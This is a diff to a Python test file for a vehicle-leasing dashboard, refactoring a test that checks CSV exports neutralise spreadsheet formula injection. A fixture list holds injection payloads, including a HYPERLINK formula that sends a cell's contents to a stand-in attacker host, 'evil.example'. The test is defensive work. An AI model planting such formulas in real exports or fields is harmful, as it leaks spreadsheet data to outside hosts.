@@ -17,7 +17,7 @@ from sqlmodel import select
 from leasedash.db.models import Contract, User, Vehicle
 from leasedash.db.session import session_scope
 from leasedash.pages.fleet.state import FleetState
-from leasedash.pages.what_if.state import WhatIfState
+from leasedash.pages.what_if.keeping import WhatIfScenariosState
 from leasedash.services.spreadsheet_cells import safe_cell
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1")
@@ -68,13 +68,14 @@ def test_the_fleet_csv_neutralises_formulas_and_keeps_negative_amounts_numbers(o
 
 
 def test_the_what_if_csv_neutralises_a_scenario_named_as_a_formula_and_keeps_a_refund_a_number(own_state):
-    what_if = own_state(WhatIfState, "driver@example.com")
+    scenarios = own_state(WhatIfScenariosState, "driver@example.com")
+    what_if = scenarios.parent_state
     what_if.load()
-    what_if.controls = replace(what_if.controls, custom_km=True, return_km=max(1000, what_if.controls.return_km // 2))
-    what_if.set_save_name(FORMULAS[0])
-    what_if.keep()
+    what_if.controls = replace(what_if.controls, km_mode="custom", return_km=max(1000, what_if.controls.return_km // 2))
+    scenarios.set_save_name(FORMULAS[0])
+    scenarios.keep()
     assert what_if.problem == "" and len(what_if.kept_rows) == 1
-    download = what_if.export_csv()
+    download = scenarios.export_csv()
     data = next(str(v._var_value) for _, v in download.args if str(getattr(v, "_var_value", "")).startswith("data:"))
     header, _, body = data.partition(",")
     text = base64.b64decode(body).decode("utf-8") if header.endswith(";base64") else unquote(body)
